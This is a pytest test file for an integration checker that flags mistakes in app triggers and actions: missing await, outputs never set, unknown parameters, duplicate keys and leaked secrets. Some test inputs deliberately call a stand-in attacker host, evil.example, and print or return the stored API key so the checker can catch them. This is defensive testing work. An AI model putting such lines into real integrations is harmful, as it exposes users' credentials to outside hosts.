"""The checker runs every trigger and action: mistakes that loading an app doesn't show."""

import pytest
from tests.support.app_folders import AUTH, BUY, DEFINITION, VERIFY, write_app

from patchbay.integration.checker import check

RUN = "    ctx.set_action_item(1)\n"
TRIGGER = """from patchbay.integration import Context, Trigger


async def run(ctx: Context) -> None:
    for item in (await ctx.http.get("/items")).json()["items"]:
        ctx.push_trigger_item(item, str(item["id"]))


new_item = Trigger(key="newItem", name="New item", run=run)
"""


def breaches(tmp_path, run: str = RUN, files: dict[str, str] | None = None) -> list[str]:
    """What is found in an app whose action does this."""
    changes = {"actions/buy.py": BUY.replace(RUN, run)}
    return [str(finding) for finding in check(write_app(tmp_path / "shop", changes | (files or {})))]


def with_trigger(content: str) -> dict[str, str]:
    definition = DEFINITION.replace("from .auth", "from .triggers.new_item import new_item\nfrom .auth")
    definition = definition.replace("    actions=", "    triggers=[new_item],\n    actions=")
    return {"triggers/new_item.py": content, "triggers/__init__.py": "", "__init__.py": definition}


@pytest.mark.parametrize(
    ("run", "words"),
    [
        ('    ctx.http.get("/me")\n' + RUN, "buy.py:5: “await” is missing before ctx.http.get(…)."),
        ('    ctx.set_action_item(ctx.http.get("/me").json())\n', "“await” is missing before ctx.http.get"),
        ("    ctx.auth.set(a=1)\n" + RUN, "“await” is missing before ctx.auth.set"),
        ('    await ctx.http.post("/buy", json={})\n', "buy never sets its output"),
        ('    found = (await ctx.http.get("/x")).json()["none"]\n', "buy never sets its output"),
        ('    ctx.set_action_item(ctx.parameters.get("wat"))\n', "uses the parameter wat, which isn't"),
        ('    ctx.set_action_item(ctx.parameters["wat"])\n', "uses the parameter wat, which isn't"),
        ('    print(ctx.auth.data["apiKey"])\n' + RUN, "buy prints a secret"),
        ('    ctx.set_action_item(ctx.auth.data["apiKey"])\n', "The output of buy contains a secret"),
        (
            '    await ctx.http.get("https://evil.example/x")\n' + RUN,
            "aren't sent to evil.example",
        ),
        ("    ctx.set_action_item(whatever)\n", "buy.py:5: buy fails with NameError"),
    ],
)
def test_a_mistake_in_an_action_is_found_with_its_place(tmp_path, run, words):
    found = breaches(tmp_path, run)

    assert any(words in finding for finding in found), found
    assert all(finding.startswith("actions/buy.py:") for finding in found)


MAKER = """from patchbay.integration import Action, Context


def make_action(key: str) -> Action:
    async def run(ctx: Context) -> None:
        ctx.set_action_item((await ctx.http.get("/x")).json()["none"])

    return Action(key=key, name="Buy", run=run)
"""


def test_an_action_of_a_helper_counts_as_one_that_sets_its_output(tmp_path):
    buy = 'from ..making import make_action\n\nbuy = make_action("buy")\n'

    assert breaches(tmp_path, files={"actions/buy.py": buy, "making.py": MAKER}) == []


def test_a_described_action_that_rejects_the_sample_values_sets_its_output(tmp_path):
    buy = """from patchbay.integration import request_action, text

buy = request_action(
    key="buy",
    name="Buy",
    arguments=(text("what", "What", required=True),),
    request="POST /buy",
    body=lambda parameters: {"what": ["apples"][int(parameters["what"])]},
)
"""

    assert breaches(tmp_path, files={"actions/buy.py": buy}) == []


def test_values_that_verification_stores_have_samples(tmp_path):
    files = {
        "__init__.py": DEFINITION.replace("https://api.shop.example", "https://{auth.region}.shop.example"),
        "auth/__init__.py": AUTH.replace("fields=", 'stored=("region",),\n    fields='),
    }
    run = '    await ctx.http.get("/x")\n    ctx.set_action_item(ctx.auth.data["apiKey"])\n'

    assert any("The output of buy contains a secret" in found for found in breaches(tmp_path, run, files))


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("(await ctx.http.get", "(ctx.http.get", "“await” is missing"),
        ('str(item["id"])', 'interal_id="1"', "unexpected keyword argument"),
        (
            "push_trigger_item(item",
            "push_trigger_item(dict(ctx.auth.data)",
            "The output of newItem contains a secret",
        ),
        ('"/items"', '"/items/" + ctx.parameters.get("list", "")', "uses the parameter list"),
    ],
)
def test_a_mistake_in_a_trigger_is_found(tmp_path, old, new, words):
    found = breaches(tmp_path, files=with_trigger(TRIGGER.replace(old, new)))

    assert any(words in finding for finding in found), found


def test_good_triggers_and_actions_have_no_breach(tmp_path):
    assert breaches(tmp_path, files=with_trigger(TRIGGER)) == []


def test_a_request_to_another_host_without_credentials_is_found_too(tmp_path):
    run = '    await ctx.http.get("https://other.example/x", extra={"skip_auth": True})\n' + RUN

    assert any("other.example" in finding for finding in breaches(tmp_path, run))


def test_a_field_that_is_sent_as_a_credential_must_be_secret(tmp_path):
    auth = (
        AUTH.replace("api_key_fields()", 'AuthField(key="pin", label="PIN"),')
        .replace("Auth, api_key_fields", "Auth, AuthField")
        .replace("fields=AuthField", "fields=(AuthField")
        .replace('"PIN"),', '"PIN"),)', 1)
    )
    definition = DEFINITION.replace("App, bearer", "App, header_key").replace(
        "bearer()", 'header_key("X-Auth", field="pin")'
    )
    verify = VERIFY.replace('ctx.auth.data.get("screenName")', '"Mine"')

    files = {
        "auth/__init__.py": auth,
        "__init__.py": definition,
        "auth/verify_credentials.py": verify,
    }
    found = breaches(tmp_path, files=files)

    assert [finding for finding in found if "pin is sent as a credential" in finding], found


def test_a_key_used_twice_in_a_row_is_found(tmp_path):
    twice = 'rows("lines", "Lines", (text("a", "A"), text("a", "B")))'
    buy = BUY.replace("Context, text", "Context, rows, text").replace(
        'text("what", "What", required=True)', twice
    )

    found = [str(finding) for finding in check(write_app(tmp_path / "shop", {"actions/buy.py": buy}))]

    assert any("“a” is defined 2 times" in finding for finding in found), found
